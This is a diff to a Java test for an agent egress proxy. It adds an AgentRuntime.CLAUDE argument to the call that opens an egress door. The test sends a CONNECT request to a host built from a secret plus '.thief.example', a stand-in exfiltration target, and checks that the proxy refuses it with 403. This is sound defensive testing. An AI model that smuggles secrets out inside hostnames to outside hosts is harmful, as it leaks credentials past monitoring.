@@ -7,6 +7,7 @@ import drover.egress.EgressDoor;
 import drover.ledger.EventRecord;
 import drover.ledger.EventType;
 import drover.machine.Network;
+import drover.runtime.AgentRuntime;
 import java.io.IOException;
 import java.net.InetAddress;
 import java.net.UnixDomainSocketAddress;
@@ -31,7 +32,8 @@ class EgressRecordTest {
     try (BeanBench bench = BeanBench.in(folder);
         Egress egress =
             new Egress(bench.settings(""), new NothingButPrivate(), bench.journal::tell)) {
-      try (EgressDoor door = egress.open(bench.run.claim(), "publisher", folder)) {
+      try (EgressDoor door =
+          egress.open(bench.run.claim(), "publisher", AgentRuntime.CLAUDE, folder)) {
         String name = BeanBench.SECRET + ".thief.example:443";
         assertThat(ask(door, "CONNECT " + name + " HTTP/1.1\r\n\r\n")).startsWith("HTTP/1.1 403 ");
       }
